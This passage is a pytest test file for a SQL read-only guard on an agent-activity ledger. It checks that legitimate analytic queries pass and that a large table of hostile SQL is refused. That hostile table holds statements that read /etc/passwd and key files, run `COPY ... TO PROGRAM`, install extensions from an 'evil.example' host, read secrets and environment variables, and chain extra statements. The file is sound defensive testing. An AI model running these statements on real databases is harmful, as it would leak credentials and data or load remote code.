"""The read-only guard against hostile SQL, on a real ledger (DESIGN.md §4, issue 5 "Tests").

Every hostile statement below goes through ``run_sql`` on a real ledger (simulated agent activity:
Parquet segments, a signed checkpoint, and acknowledged events still in a live writer's WAL). Each
must be refused with an error that names what was refused, and afterwards every file of the ledger
(and of a directory beside it) must be byte-for-byte what it was, and the ledger must still verify.

Statements are written in several spellings (case, whitespace, comments, quoting) and dialects,
and nested in CTEs, subqueries, ``IN (...)``, ``UNION`` branches, lateral joins and scalar
subqueries. Paths in them point into the ledger itself (``{ledger}``, ``{segment}``, ``{wal}``,
``{key}``) or beside it (``{outside}``), so a statement that slipped through would damage or leak
the very files under test.

The second half is the other side of the guard: legitimate read-only queries a responder writes
(windows, QUALIFY, CTEs, recursive CTEs, set operations, allowed table functions, JSON, regexps,
time buckets, list functions, EXISTS) must pass and give answers checked against Python.

A case marked ``bug`` documents a guard defect as a strict xfail; the reason says what is wrong.
"""

from __future__ import annotations

import hashlib
import json
import re
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from query import (
    Ledger,
    QueryError,
    QueryRefusedError,
    QuerySyntaxError,
    check_read_only,
    run_sql,
)
from sample_data import SimulationConfig, iter_events

FLUSHED_EVENTS = 240  # closed writer: Parquet segments, then a signed checkpoint
LIVE_EVENTS = 60  # an open writer: acknowledged, still only in its WAL


@dataclass
class Site:
    """The ledger under attack, the directory beside it, and the paths statements aim at."""

    root: Path
    outside: Path
    places: dict[str, str]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    base = tmp_path_factory.mktemp("guard")
    root = base / "ledger"
    outside = base / "outside"
    outside.mkdir()
    (outside / "canary.txt").write_text("untouched\n", encoding="utf-8")
    Ledger.init(root, ledger_id="guard")
    with Ledger.open(root) as store:
        store.append(list(iter_events(SimulationConfig(events=FLUSHED_EVENTS, seed=11))))
    Ledger.open(root).checkpoint()
    live = Ledger.open(root)
    live.append(list(iter_events(SimulationConfig(events=LIVE_EVENTS, seed=12))))
    segment = next(root.rglob("*.parquet"))
    wal = next(root.rglob("wal/*.log"))
    key = next(root.rglob("keys/*.key"))
    places = {
        "{ledger}": str(root),
        "{segment}": str(segment),
        "{wal}": str(wal),
        "{key}": str(key),
        "{outside}": str(outside),
    }
    try:
        yield Site(root, outside, places)
    finally:
        live.close()


def fill(sql: str, site: Site) -> str:
    for placeholder, path in site.places.items():
        sql = sql.replace(placeholder, path)
    return sql


def snapshot(*roots: Path) -> dict[str, str]:
    """Every path under ``roots``: a SHA-256 of each file's bytes, ``dir`` for directories."""
    state: dict[str, str] = {}
    for top in roots:
        for path in sorted(top.rglob("*")):
            if path.is_dir():
                state[str(path)] = "dir"
            else:
                state[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return state


# -- the hostile table ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    sql: str
    names: str  # a regex the error message must match (case-insensitive): what was refused
    dialect: str = "duckdb"
    error: type[QueryError] = QueryRefusedError
    bug: str = ""


FILES = r"reading files is not allowed"
MULTI = r"exactly one statement"
OTHER_DB = r"other databases"

DDL = [
    Hostile("CREATE TABLE t (x INTEGER)", r"CREATE"),
    Hostile("create   table if not exists t\n(x int)", r"CREATE"),
    Hostile("CREATE OR REPLACE VIEW events AS SELECT 1 AS event_id", r"CREATE"),
    Hostile("/* looks harmless */ CREATE TEMP VIEW v AS SELECT * FROM events", r"CREATE"),
    Hostile("CREATE MACRO evil(x) AS x + 1", r"CREATE"),
    Hostile("create or replace temp macro t() as table select 1 as one", r"CREATE"),
    Hostile("CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 'v')", r"CREATE"),
    Hostile("CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'k', SECRET 'v')", r"CREATE"),
    Hostile("CREATE SCHEMA evil", r"CREATE"),
    Hostile("CREATE SEQUENCE s", r"CREATE"),
    Hostile("DROP VIEW events", r"DROP"),
    Hostile("drop table if exists events_raw cascade", r"DROP"),
    Hostile("-- the next line is a comment\nDROP SECRET s", r"DROP"),
    Hostile("ALTER VIEW events RENAME TO old_events", r"ALTER"),
    Hostile("ALTER TABLE events ADD COLUMN x INTEGER", r"ALTER"),
    Hostile("TRUNCATE events", r"TRUNCATE"),
    Hostile("CREATE TABLE t AS SELECT * FROM events", r"CREATE", "postgres"),
    Hostile("DROP TABLE IF EXISTS `events`", r"DROP", "spark"),
    Hostile(
        "CREATE TABLE t USING parquet LOCATION '{ledger}/writers' AS SELECT * FROM events",
        r"CREATE",
        "spark",
    ),
    Hostile("CREATE OR REPLACE STAGE s URL = 'file://{ledger}'", r"CREATE", "snowflake"),
    Hostile("CREATE TEMP FUNCTION f(x INT64) AS (x + 1)", r"CREATE", "bigquery"),
    Hostile("ALTER SESSION SET QUERY_TAG = 'x'", r"ALTER", "snowflake"),
]

DML = [
    Hostile("INSERT INTO events_raw BY NAME SELECT * FROM events_raw", r"INSERT"),
    Hostile("insert into events (event_id) values ('forged')", r"INSERT"),
    Hostile("INSERT OR REPLACE INTO events SELECT * FROM events", r"INSERT"),
    Hostile("UPDATE events SET agent_id = 'someone-else'", r"UPDATE"),
    Hostile("update\tevents\tset\toutcome='success'\twhere\toutcome<>'success'", r"UPDATE"),
    Hostile("DELETE FROM events WHERE true", r"DELETE"),
    Hostile("WITH doomed AS (SELECT event_id FROM events) DELETE FROM events_raw", r"DELETE"),
    Hostile(
        "MERGE INTO events t USING events s ON t.event_id = s.event_id WHEN MATCHED THEN DELETE",
        r"MERGE",
    ),
    Hostile("CREATE TABLE copy AS SELECT * FROM events WHERE false", r"CREATE"),
    Hostile(
        "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", r"INSERT", "postgres"
    ),
    Hostile(
        "WITH d AS (DELETE FROM events RETURNING *) SELECT count(*) FROM d", r"DELETE", "postgres"
    ),
    Hostile("INSERT OVERWRITE TABLE events SELECT * FROM events", r"INSERT", "spark"),
    Hostile(
        "INSERT OVERWRITE LOCAL DIRECTORY '{ledger}/writers' STORED AS PARQUET "
        "SELECT * FROM events",
        r"INSERT",
        "spark",
    ),
    Hostile("UPDATE events SET agent_id = 'x' WHERE agent_id ILIKE '%'", r"UPDATE", "snowflake"),
    Hostile("DELETE `events` WHERE TRUE", r"DELETE", "bigquery"),
    Hostile("INSERT INTO `events` (event_id) VALUES ('forged')", r"INSERT", "bigquery"),
]

COPY = [
    Hostile("COPY events TO '{segment}' (FORMAT parquet)", r"COPY"),
    Hostile("copy (select * from events) to '{ledger}/evil.csv' with (header)", r"COPY"),
    Hostile("COPY events TO '{outside}/leak.csv'", r"COPY"),
    Hostile("COPY events FROM '/etc/passwd'", r"COPY"),
    Hostile("COPY events_raw FROM '{segment}' (FORMAT parquet)", r"COPY"),
    Hostile("COPY FROM DATABASE memory TO evil", r"COPY"),
    Hostile("COPY events TO PROGRAM 'touch {ledger}/pwned'", r"COPY", "postgres"),
    Hostile("COPY events FROM STDIN", r"COPY", "postgres"),
    Hostile("COPY INTO @~/unload FROM events", r"COPY", "snowflake"),
    Hostile("COPY INTO events FROM @stage/events.csv", r"COPY", "snowflake"),
]

SESSION = [
    Hostile("ATTACH '{ledger}/evil.duckdb' AS evil", r"ATTACH"),
    Hostile("attach database ':memory:' as scratch", r"ATTACH"),
    Hostile("ATTACH IF NOT EXISTS '{outside}/x.db' AS x (READ_ONLY)", r"ATTACH"),
    Hostile("DETACH evil", r"DETACH"),
    Hostile("DETACH DATABASE IF EXISTS memory", r"DETACH"),
    Hostile("USE memory", r"USE"),
    Hostile("use temp.main", r"USE"),
    Hostile("USE other_db", r"USE", "spark"),
    Hostile("INSTALL httpfs", r"INSTALL"),
    Hostile("install 'httpfs'", r"INSTALL"),
    Hostile("FORCE INSTALL httpfs FROM 'http://evil.example/extensions'", r"INSTALL"),
    Hostile("LOAD '{ledger}/evil.duckdb_extension'", r"LOAD"),
    Hostile("load\n  httpfs", r"LOAD"),
    Hostile("UPDATE EXTENSIONS", r"UPDATE"),
    Hostile("PRAGMA enable_profiling", r"PRAGMA"),
    Hostile("pragma database_list", r"PRAGMA"),
    Hostile("PRAGMA memory_limit = '100GB'", r"PRAGMA"),
    Hostile("SELECT * FROM pragma_version()", r"pragma_version"),
    Hostile("SET enable_external_access = true", r"SET"),
    Hostile("set global lock_configuration = false", r"SET"),
    Hostile("SET memory_limit TO '100GB'", r"SET"),
    Hostile("SET VARIABLE x = 1", r"SET"),
    Hostile("RESET memory_limit", r"RESET"),
    Hostile("reset all", r"RESET"),
    Hostile("SET work_mem = '1GB'", r"SET", "postgres"),
    Hostile("SET spark.sql.ansi.enabled = true", r"SET", "spark"),
    Hostile("ALTER SESSION SET TIMEZONE = 'UTC'", r"ALTER", "snowflake"),
    Hostile("CALL pragma_version()", r"CALL"),
    Hostile("call duckdb_settings()", r"CALL"),
    # sqlglot cannot parse EXPORT / IMPORT DATABASE: a syntax error, echoing the statement.
    Hostile("EXPORT DATABASE '{ledger}/export'", r"EXPORT DATABASE", error=QuerySyntaxError),
    Hostile(
        "export database '{outside}/export' (FORMAT parquet)",
        r"export database",
        error=QuerySyntaxError,
    ),
    Hostile("IMPORT DATABASE '{ledger}'", r"IMPORT DATABASE", error=QuerySyntaxError),
    Hostile(
        "EXPORT DATA OPTIONS (uri = 'gs://b/x*.csv', format = 'CSV') AS SELECT * FROM events",
        r"EXPORT",
        "bigquery",
    ),
    Hostile("BEGIN TRANSACTION", r"TRANSACTION"),
    Hostile("PREPARE p AS SELECT 1", r"PREPARE"),
    Hostile("EXECUTE p", r"EXECUTE"),
    Hostile("VACUUM", r"VACUUM"),
    Hostile("CACHE TABLE c AS SELECT * FROM events", r"CACHE", "spark"),
    Hostile("LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE events", r"LOAD", "spark"),
    Hostile("ADD JAR '{outside}/evil.jar'", r"ADD JAR", "spark"),
    Hostile("PUT file:///etc/passwd @~", r"PUT", "snowflake"),
    Hostile("GET @~/unload file://{outside}/", r"GET", "snowflake"),
    Hostile("EXECUTE IMMEDIATE 'DROP TABLE events'", r"EXECUTE", "bigquery"),
    Hostile("DO $$ BEGIN PERFORM 1; END $$", r"\bDO\b", "postgres"),
    Hostile(
        "CHECKPOINT",
        r"CHECKPOINT",
    ),
]

MULTIPLE = [
    Hostile("SELECT 1; DROP VIEW events", MULTI),
    Hostile("SELECT count(*) FROM events; -- only a comment follows?\nDROP VIEW events", MULTI),
    Hostile("SELECT 1 /* ; */; ATTACH '{ledger}/x.db' AS x", MULTI),
    Hostile("select 1;select 2;", MULTI),
    Hostile("WITH a AS (SELECT 1) SELECT * FROM a;\n\nDELETE FROM events", MULTI),
    Hostile("SELECT 1; COPY events TO PROGRAM 'touch {ledger}/pwned'", MULTI, "postgres"),
    Hostile("SELECT 1; SET spark.sql.x = 1", MULTI, "spark"),
    Hostile("SELECT 1; DROP TABLE `events`", MULTI, "bigquery"),
]

TABLE_FUNCTIONS = [
    Hostile(
        "WITH x AS (SELECT * FROM read_csv('/etc/passwd', header = false)) SELECT * FROM x",
        r"read_csv",
    ),
    Hostile(
        "SELECT * FROM events WHERE agent_id IN "
        "(SELECT * FROM read_csv_auto('{ledger}/ledger.json'))",
        r"read_csv_auto",
    ),
    Hostile("SELECT * FROM READ_PARQUET('{segment}')", r"read_parquet"),
    Hostile(
        "SELECT (SELECT count(*) FROM parquet_scan(['{segment}'])) AS n",
        r"parquet_scan|read_parquet",
    ),
    Hostile(
        "SELECT agent_id FROM events UNION ALL SELECT * FROM read_json('{ledger}/ledger.json')",
        r"read_json",
    ),
    Hostile(
        "SELECT * FROM events, LATERAL (SELECT * FROM read_json_auto('{ledger}/ledger.json')) j",
        r"read_json_auto|read_json",
    ),
    Hostile("SELECT * FROM read_ndjson('{wal}')", r"read_ndjson"),
    Hostile("SELECT content FROM read_text('{key}')", r"read_text"),
    Hostile("select   *   from   Read_Blob( '{key}' )", r"read_blob"),
    Hostile("SELECT * FROM glob('{ledger}/**')", r"glob"),
    Hostile("SELECT * FROM sniff_csv('/etc/passwd')", r"sniff_csv"),
    Hostile("SELECT * FROM parquet_metadata('{segment}')", r"parquet_metadata"),
    Hostile("SELECT * FROM parquet_schema('{segment}')", r"parquet_schema"),
    Hostile("SELECT * FROM query_table('events')", r"query_table"),
    Hostile("SELECT * FROM query('SELECT * FROM read_text(''{key}'')')", r"query"),
    Hostile("SELECT * FROM \"read_text\"('{key}')", r"read_text"),
    Hostile("SELECT * FROM main.read_text('{key}')", r"read_text"),
    Hostile(
        "WITH a AS (WITH b AS (SELECT * FROM glob('/*')) SELECT * FROM b) SELECT * FROM a",
        r"glob",
    ),
    Hostile(
        "SELECT event_id, (SELECT count(*) FROM read_text('/etc/passwd')) AS n FROM events",
        r"read_text",
    ),
    Hostile(
        "SELECT * FROM events e WHERE EXISTS (SELECT 1 FROM read_csv('/etc/hosts') h)",
        r"read_csv",
    ),
    Hostile("SELECT * FROM events JOIN read_csv('/etc/passwd') p ON true", r"read_csv"),
    Hostile("SELECT * FROM read_csv('/etc/passwd') AS t(a)", r"read_csv", "postgres"),
    Hostile("SELECT * FROM read_files('/etc/passwd')", r"read_files", "spark"),
    Hostile("SELECT * FROM TABLE(read_parquet('{segment}'))", r"read_parquet", "snowflake"),
    Hostile("SELECT * FROM read_csv('/etc/passwd')", r"read_csv", "bigquery"),
    Hostile(
        "SELECT * FROM events, LATERAL read_json_objects('{ledger}/ledger.json')",
        r"read_json_objects",
    ),
    Hostile(
        "SELECT * FROM events CROSS JOIN LATERAL parquet_file_metadata('{segment}')",
        r"parquet_file_metadata",
    ),
]

FILE_PATHS = [
    Hostile("SELECT * FROM '{segment}'", FILES),
    Hostile("FROM 'file.csv'", FILES),
    Hostile('select * from "{ledger}/ledger.json"', FILES),
    Hostile('SELECT * FROM "/etc/passwd"', FILES, "postgres"),
    Hostile("SELECT * FROM 'https://example.com/x.parquet'", FILES),
    Hostile("SELECT * FROM 's3://bucket/leak.csv' AS t", FILES),
    Hostile("SELECT * FROM events WHERE agent_id IN (FROM 'agents.csv')", FILES),
    Hostile("WITH f AS (SELECT * FROM 'data.parquet') SELECT count(*) FROM f", FILES),
    Hostile('SELECT 1 AS x UNION SELECT * FROM "data.parquet"', FILES),
    Hostile(
        "SELECT * FROM `{segment}`",
        FILES,
        "bigquery",
    ),
    Hostile(
        "SELECT * FROM data.csv",
        FILES,
    ),
    Hostile(
        'SELECT * FROM events WHERE agent_id IN (SELECT * FROM "{ledger}/ledger".json)',
        FILES,
    ),
    Hostile(
        'SELECT count(*) FROM "/etc/passwd".csv',
        FILES,
        "postgres",
    ),
    Hostile("SELECT * FROM `file.csv`", FILES, "spark"),
    Hostile("SELECT * FROM csv.`/etc/passwd`", FILES, "spark"),
    Hostile("SELECT * FROM parquet.`{segment}`", FILES, "spark"),
    Hostile(
        "SELECT $1 FROM @~/leak.csv",
        r"stage|file",
        "snowflake",
    ),
]

SECRETS = [
    Hostile("SELECT getenv('HOME')", r"getenv"),
    Hostile("select GETENV ( 'PATH' ) as p", r"getenv"),
    Hostile("SELECT event_id FROM events WHERE agent_id = getenv('USER')", r"getenv"),
    Hostile("SELECT list_transform([1], x -> getenv('HOME'))", r"getenv"),
    Hostile("SELECT current_setting('memory_limit')", r"current_setting"),
    Hostile("SELECT current_setting('search_path')", r"current_setting", "postgres"),
    Hostile("SELECT * FROM duckdb_settings()", r"duckdb_settings"),
    Hostile(
        "SELECT (SELECT value FROM duckdb_settings() WHERE name = 'enable_external_access')",
        r"duckdb_settings",
    ),
    Hostile("SELECT * FROM duckdb_secrets()", r"duckdb_secrets"),
    Hostile("SELECT * FROM events, LATERAL duckdb_secrets()", r"duckdb_secrets"),
    Hostile("SELECT * FROM duckdb_extensions()", r"duckdb_extensions"),
    Hostile("SELECT * FROM which_secret('s3://bucket/x', 's3')", r"which_secret"),
    Hostile(
        "SELECT \"current_setting\"('memory_limit')",
        r"current_setting",
    ),
    Hostile(
        "SELECT `current_setting`('threads')",
        r"current_setting",
        "spark",
    ),
    Hostile(
        "SELECT main.\"current_setting\"('threads')",
        r"current_setting",
    ),
    Hostile(
        "SELECT name, setting FROM pg_catalog.pg_settings",
        r"pg_settings|setting",
    ),
    Hostile(
        "SELECT * FROM events, LATERAL duckdb_databases()",
        r"duckdb_databases",
    ),
]

INTO_AND_OTHER_DATABASES = [
    Hostile("SELECT * INTO evil FROM events", r"INTO"),
    Hostile("SELECT event_id INTO TEMP TABLE evil FROM events", r"INTO", "postgres"),
    Hostile("select *\ninto   evil\nfrom events where false", r"INTO", "postgres"),
    Hostile("SELECT * FROM other.main.t", OTHER_DB),
    Hostile("SELECT * FROM memory.main.events", OTHER_DB),
    Hostile('SELECT * FROM "system"."main"."duckdb_tables"', OTHER_DB),
    Hostile("SELECT * FROM events WHERE event_id IN (SELECT event_id FROM other.main.t)", OTHER_DB),
    Hostile("SELECT * FROM `proj.ds.events`", OTHER_DB, "bigquery"),
    Hostile("SELECT * FROM other_db.public.events", OTHER_DB, "snowflake"),
    Hostile("SELECT * FROM spark_catalog.default.events", OTHER_DB, "spark"),
]

HOSTILE = [
    *(("ddl", case) for case in DDL),
    *(("dml", case) for case in DML),
    *(("copy", case) for case in COPY),
    *(("session", case) for case in SESSION),
    *(("multi", case) for case in MULTIPLE),
    *(("tablefn", case) for case in TABLE_FUNCTIONS),
    *(("path", case) for case in FILE_PATHS),
    *(("secret", case) for case in SECRETS),
    *(("other", case) for case in INTO_AND_OTHER_DATABASES),
]


def hostile_params() -> list[Any]:
    params = []
    for index, (group, case) in enumerate(HOSTILE):
        marks = [pytest.mark.xfail(strict=True, reason=f"BUG: {case.bug}")] if case.bug else []
        params.append(pytest.param(case, id=f"{group}-{index:03d}-{case.dialect}", marks=marks))
    return params


def test_the_hostile_table_is_broad() -> None:
    assert len(HOSTILE) >= 60
    dialects = Counter(case.dialect for _, case in HOSTILE)
    assert set(dialects) == {"duckdb", "postgres", "spark", "snowflake", "bigquery"}
    assert all(count >= 5 for count in dialects.values())
    assert len({case.sql for _, case in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("case", hostile_params())
def test_hostile_statement_is_refused_and_the_ledger_is_untouched(
    site: Site, case: Hostile
) -> None:
    sql = fill(case.sql, site)
    before = snapshot(site.root, site.outside)
    outcome: Any
    try:
        outcome = run_sql(Ledger.open(site.root), sql, dialect=case.dialect)
    except QueryError as err:
        outcome = err
    # Whatever happened, the ledger and its neighbour are byte-for-byte the same and verify.
    assert snapshot(site.root, site.outside) == before
    assert Ledger.open(site.root).verify().ok
    assert isinstance(outcome, case.error), f"not refused: {outcome!r}"
    assert re.search(case.names, str(outcome), re.IGNORECASE), str(outcome)
    # The guard alone refuses it the same way, before any connection is opened.
    with pytest.raises(case.error):
        check_read_only(sql, case.dialect)


def test_refusals_carry_status_403(site: Site) -> None:
    with pytest.raises(QueryRefusedError) as caught:
        run_sql(Ledger.open(site.root), "DROP VIEW events")
    assert caught.value.status == 403
    assert "DROP" in str(caught.value)


def test_unparseable_statement_is_a_syntax_error_not_a_run(site: Site) -> None:
    before = snapshot(site.root, site.outside)
    with pytest.raises(QuerySyntaxError) as caught:
        run_sql(Ledger.open(site.root), "SELECT * FROM $$/etc/passwd$$")
    assert caught.value.line == 1
    assert "^" in caught.value.highlight
    assert snapshot(site.root, site.outside) == before


def test_internal_relations_are_not_reachable(site: Site) -> None:
    with pytest.raises(QueryRefusedError, match="_unflushed"):
        run_sql(Ledger.open(site.root), "SELECT count(*) AS n FROM _unflushed", as_of=1)


# -- legitimate read-only queries -----------------------------------------------------------------


@pytest.fixture(scope="module")
def logical(site: Site) -> list[dict[str, Any]]:
    """The events view, row by row, as the ground truth the Python answers are computed from."""
    table = run_sql(Ledger.open(site.root), "SELECT * FROM events").table
    rows = table.to_pylist()
    for row in rows:
        attrs = row["attrs"]
        row["attrs"] = None if attrs is None else json.loads(attrs)
    return rows


def test_the_events_view_is_the_ingested_events(site: Site, logical: list[dict[str, Any]]) -> None:
    ingested = [
        *iter_events(SimulationConfig(events=FLUSHED_EVENTS, seed=11)),
        *iter_events(SimulationConfig(events=LIVE_EVENTS, seed=12)),
    ]
    assert len(logical) == len({e["event_id"] for e in ingested})
    assert {row["event_id"] for row in logical} == {e["event_id"] for e in ingested}
    by_id = {e["event_id"]: e for e in ingested}
    for row in logical:
        source = by_id[row["event_id"]]
        assert row["agent_id"] == source["agent_id"]
        assert row["category"] == source["category"]
        assert row["credential_scopes"] == source.get("credential_scopes")
        assert row["attrs"] == source.get("attrs")
        assert row["time"] == datetime.fromisoformat(source["time"])


def _rows(table: pa.Table) -> list[tuple[Any, ...]]:
    return [tuple(row.values()) for row in table.to_pylist()]


def _hour(moment: datetime) -> datetime:
    return moment.replace(minute=0, second=0, microsecond=0)


def _quarter(moment: datetime) -> datetime:
    return moment.replace(minute=moment.minute - moment.minute % 15, second=0, microsecond=0)


def _rank_in_agent(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    ordered = sorted(rows, key=lambda r: (r["agent_id"], r["time"], r["event_id"]))
    seen: Counter[str] = Counter()
    answer = []
    for row in ordered:
        seen[row["agent_id"]] += 1
        answer.append((row["event_id"], seen[row["agent_id"]]))
    return sorted(answer)


def _latest_per_agent(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    latest: dict[str, dict[str, Any]] = {}
    for row in rows:
        best = latest.get(row["agent_id"])
        if best is None or (row["time"], row["event_id"]) > (best["time"], best["event_id"]):
            latest[row["agent_id"]] = row
    return sorted((agent, row["event_id"]) for agent, row in latest.items())


def _busiest_session(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    sizes = Counter(r["session_id"] for r in rows if r["session_id"] is not None)
    return [(max(sizes.values()), len(sizes))]


def _agents_of(rows: list[dict[str, Any]], *categories: str) -> list[tuple[Any, ...]]:
    return sorted({(r["agent_id"],) for r in rows if r["category"] in categories})


def _hour_histogram(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    hours = Counter(r["time"].hour for r in rows)
    return [(h, hours.get(h, 0)) for h in range(24)]


def _scope_counts(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    counts = Counter(s for r in rows for s in r["credential_scopes"] or [])
    return sorted(counts.items())


def _model_tokens(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    tokens: dict[str, int] = defaultdict(int)
    for row in rows:
        attrs = row["attrs"] or {}
        if "gen_ai.request.model" in attrs:
            tokens[attrs["gen_ai.request.model"]] += attrs["gen_ai.usage.input_tokens"]
    return sorted(tokens.items())


def _roles(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    roles = Counter(
        m.group(1) for r in rows if (m := re.fullmatch(r"([a-z-]+?)-\d+", r["agent_id"]))
    )
    return sorted(roles.items())


def _per_bucket(rows: list[dict[str, Any]], bucket: Callable[[datetime], datetime]) -> Any:
    return sorted(Counter(bucket(r["time"]) for r in rows).items())


def _secret_scopes(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    answer = []
    for row in rows:
        scopes = row["credential_scopes"]
        if scopes and "web:read" in scopes:
            secret = sorted(s for s in scopes if s.startswith("secrets:"))
            answer.append((row["event_id"], len(scopes), secret))
    return sorted(answer)


def _llm_sessions_with_network(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    llm = {r["session_id"] for r in rows if r["category"] == "llm"}
    return sorted(
        {(r["session_id"],) for r in rows if r["category"] == "network" and r["session_id"] in llm}
    )


def _chain_depths(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    children: dict[str, list[str]] = defaultdict(list)
    for row in rows:
        if row["caused_by"] is not None:
            children[row["caused_by"]].append(row["event_id"])
    depth: Counter[int] = Counter()
    frontier = [r["event_id"] for r in rows if r["caused_by"] is None]
    level = 0
    while frontier:
        depth[level] = len(frontier)
        frontier = [child for parent in frontier for child in children[parent]]
        level += 1
    return sorted(depth.items())


def _largest_gap(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    sessions: dict[str, list[datetime]] = defaultdict(list)
    for row in rows:
        if row["session_id"] is not None:
            sessions[row["session_id"]].append(row["time"])
    gaps = [
        (b - a) // timedelta(microseconds=1)
        for times in sessions.values()
        for a, b in zip(sorted(times), sorted(times)[1:], strict=False)
    ]
    return [(max(gaps),)]


def _outcomes(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    per: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    for row in rows:
        per[row["agent_id"]][0] += 1
        per[row["agent_id"]][1] += row["outcome"] == "success"
    return sorted((agent, n, ok) for agent, (n, ok) in per.items())


def _lateral_counts(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    return sorted(Counter(r["agent_id"] for r in rows).items())


@dataclass(frozen=True)
class Legit:
    sql: str
    expected: Callable[[list[dict[str, Any]]], list[tuple[Any, ...]]]
    bug: str = ""


LEGIT = {
    "window-row-number": Legit(
        "SELECT event_id, row_number() OVER (PARTITION BY agent_id ORDER BY time, event_id) AS rn "
        "FROM events ORDER BY event_id",
        _rank_in_agent,
    ),
    "qualify": Legit(
        "SELECT agent_id, event_id FROM events "
        "QUALIFY row_number() OVER (PARTITION BY agent_id ORDER BY time DESC, event_id DESC) = 1 "
        "ORDER BY agent_id",
        _latest_per_agent,
    ),
    "cte": Legit(
        "WITH per AS (SELECT session_id, count(*) AS n FROM events "
        "WHERE session_id IS NOT NULL GROUP BY 1) SELECT max(n), count(*) FROM per",
        _busiest_session,
    ),
    "union": Legit(
        "SELECT agent_id FROM events WHERE category = 'llm' "
        "UNION SELECT agent_id FROM events WHERE category = 'tool' ORDER BY 1",
        lambda rows: _agents_of(rows, "llm", "tool"),
    ),
    "range-left-join": Legit(
        "SELECT r.range AS h, count(e.event_id) AS n FROM range(24) AS r "
        "LEFT JOIN events AS e ON hour(e.time) = r.range GROUP BY 1 ORDER BY 1",
        _hour_histogram,
    ),
    "generate-series": Legit(
        "SELECT sum(generate_series) AS s, count(*) AS n FROM generate_series(1, 100)",
        lambda rows: [(5050, 100)],
    ),
    "unnest-scopes": Legit(
        "SELECT scope, count(*) AS n FROM (SELECT unnest(credential_scopes) AS scope FROM events) "
        "GROUP BY 1 ORDER BY 1",
        _scope_counts,
    ),
    "json-extraction": Legit(
        "SELECT attrs->>'$.\"gen_ai.request.model\"' AS model, "
        "sum(CAST(json_extract(attrs, '$.\"gen_ai.usage.input_tokens\"') AS BIGINT)) AS tokens "
        "FROM events WHERE json_exists(attrs, '$.\"gen_ai.request.model\"') GROUP BY 1 ORDER BY 1",
        _model_tokens,
    ),
    "regexp": Legit(
        "SELECT regexp_extract(agent_id, '^([a-z-]+?)-\\d+$', 1) AS role, count(*) AS n "
        "FROM events WHERE regexp_full_match(agent_id, '[a-z-]+-\\d+') GROUP BY 1 ORDER BY 1",
        _roles,
    ),
    "date-trunc": Legit(
        "SELECT date_trunc('hour', time) AS h, count(*) AS n FROM events GROUP BY 1 ORDER BY 1",
        lambda rows: _per_bucket(rows, _hour),
    ),
    "time-bucket": Legit(
        "SELECT time_bucket(INTERVAL '15 minutes', time) AS b, count(*) AS n FROM events "
        "GROUP BY 1 ORDER BY 1",
        lambda rows: _per_bucket(rows, _quarter),
    ),
    "list-functions": Legit(
        "SELECT event_id, len(credential_scopes) AS n, "
        "list_sort(list_filter(credential_scopes, s -> s LIKE 'secrets:%')) AS secret "
        "FROM events WHERE list_contains(credential_scopes, 'web:read') ORDER BY 1",
        _secret_scopes,
    ),
    "exists": Legit(
        "SELECT DISTINCT session_id FROM events AS e WHERE category = 'network' AND EXISTS "
        "(SELECT 1 FROM events AS f WHERE f.session_id = e.session_id AND f.category = 'llm') "
        "ORDER BY 1",
        _llm_sessions_with_network,
    ),
    "recursive-cte": Legit(
        "WITH RECURSIVE chain AS (SELECT event_id, 0 AS depth FROM events WHERE caused_by IS NULL "
        "UNION ALL SELECT e.event_id, c.depth + 1 FROM events AS e "
        "JOIN chain AS c ON e.caused_by = c.event_id) "
        "SELECT depth, count(*) AS n FROM chain GROUP BY 1 ORDER BY 1",
        _chain_depths,
    ),
    "lag-window": Legit(
        "SELECT max(epoch_us(time) - epoch_us(prev)) AS gap FROM (SELECT time, "
        "lag(time) OVER (PARTITION BY session_id ORDER BY time) AS prev FROM events "
        "WHERE session_id IS NOT NULL)",
        _largest_gap,
    ),
    "filter-aggregate": Legit(
        "SELECT agent_id, count(*) AS n, count(*) FILTER (WHERE outcome = 'success') AS ok "
        "FROM events GROUP BY ALL ORDER BY 1",
        _outcomes,
    ),
    "lateral-subquery": Legit(
        "SELECT a.agent_id, x.n FROM (SELECT DISTINCT agent_id FROM events) AS a, "
        "LATERAL (SELECT count(*) AS n FROM events AS f WHERE f.agent_id = a.agent_id) AS x "
        "ORDER BY 1",
        _lateral_counts,
    ),
    "hostile-words-in-comments": Legit(
        "SELECT count(*) AS n /* DROP VIEW events; COPY events TO 'x.csv' */ FROM events "
        "-- ; ATTACH 'evil.db'",
        lambda rows: [(len(rows),)],
    ),
    "hostile-words-in-strings": Legit(
        "SELECT count(*) AS n, 'SELECT getenv(''HOME''); DROP VIEW events' AS note FROM events "
        "WHERE action <> 'read_csv(''/etc/passwd'')'",
        lambda rows: [(len(rows), "SELECT getenv('HOME'); DROP VIEW events")],
    ),
    "writers-agree-with-events-raw": Legit(
        "SELECT bool_and(w.events = (SELECT count(*) FROM events_raw AS r "
        "WHERE r.writer_id = w.writer_id)) AS same, sum(w.events) AS total FROM writers AS w",
